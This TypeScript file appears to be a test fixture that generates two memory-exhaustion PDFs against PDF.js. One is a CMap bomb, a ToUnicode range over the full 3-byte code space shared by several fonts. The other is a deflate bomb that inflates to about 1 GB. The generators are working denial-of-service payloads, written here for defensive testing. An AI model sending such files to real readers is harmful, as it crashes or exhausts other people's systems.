// PDFs built to exhaust a reader's memory, as a hostile sender would mail them (issue 19, item 1).
// Both are small and valid as far as a PDF reader can tell (ISO 32000-1 §7.5: header, objects, an
// xref table with exact offsets, trailer); what they hold makes PDF.js allocate without bound:
// - cmapBombPdf: a ToUnicode CMap (ISO 32000-1 §9.10.3) with one bfrange over the whole 3-byte code
//   space, <000000> <ffffff>, referenced by several fonts that the page uses. PDF.js expands the
//   range into one entry per code, for each font: hundreds of MB per font from ~1 KB.
// - flateBombPdf: a page whose content stream is a FlateDecode stream (RFC 1950/1951) that inflates
//   to `inflatedMb` MB of spaces from ~1/1000 of that.
import { deflateRawSync, constants } from "node:zlib";

/** Assembles numbered objects (body strings or raw bytes) into a PDF with a correct xref table. */
function assemble(objects: Array<string | Buffer>): Buffer {
  const chunks: Buffer[] = [Buffer.from("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  let at = chunks[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(at);
    const b = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), typeof body === "string" ? Buffer.from(body, "latin1") : body, Buffer.from("\nendobj\n")]);
    chunks.push(b);
    at += b.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`)].join("");
  chunks.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`));
  return Buffer.concat(chunks);
}

const stream = (dict: string, data: Buffer | string) => {
  const bytes = typeof data === "string" ? Buffer.from(data, "latin1") : data;
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${bytes.length} >>\nstream\n`), bytes, Buffer.from("\nendstream")]);
};

const CMAP = [
  "/CIDInit /ProcSet findresource begin 12 dict begin begincmap",
  "/CMapName /Bomb def",
  "1 begincodespacerange <000000> <ffffff> endcodespacerange",
  "1 beginbfrange <000000> <ffffff> <0041> endbfrange",
  "endcmap CMapName currentdict /CMap defineresource pop end end",
].join("\n");

/** One page that sets a character in each of `fonts` fonts, all sharing the bomb ToUnicode CMap. */
export function cmapBombPdf(fonts = 3): Buffer {
  const names = Array.from({ length: fonts }, (_, i) => `F${i + 1}`);
  const first = 6; // font objects follow the catalog, pages, page, contents and CMap
  const content = ["BT", "72 720 Td", ...names.map((n) => `/${n} 12 Tf (A) Tj`), "ET"].join("\n");
  return assemble([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << ${names.map((n, i) => `/${n} ${first + i} 0 R`).join(" ")} >> >> /Contents 4 0 R >>`,
    stream("", content),
    stream("", CMAP),
    ...names.map((n) => `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Name /${n} /ToUnicode 5 0 R >>`),
  ]);
}

/**
 * A zlib stream of `mb` MB of spaces, built without holding them: 1 MB of spaces compressed once
 * with a full flush (a byte-aligned block that refers to nothing before it), repeated, then an empty
 * final block and the Adler-32 of the whole, which for n equal bytes has a closed form.
 */
function flateOfSpaces(mb: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(1 << 20, 0x20), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const last = deflateRawSync(Buffer.alloc(0)); // an empty final block
  const n = mb * (1 << 20);
  const MOD = 65521;
  const a = (1 + ((0x20 * n) % MOD)) % MOD;
  // b = sum over k = 1..n of (1 + 0x20·k) = n + 0x20·n(n+1)/2, mod 65521, in BigInt to stay exact.
  const big = BigInt(n);
  const b = Number((big + 0x20n * big * (big + 1n) / 2n) % BigInt(MOD));
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE(((b << 16) | a) >>> 0);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array.from({ length: mb }, () => block), last, adler]);
}

/** One page whose content stream inflates to `inflatedMb` MB (default 1 GB). */
export function flateBombPdf(inflatedMb = 1024): Buffer {
  return assemble([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
    stream("/Filter /FlateDecode", flateOfSpaces(inflatedMb)),
  ]);
}
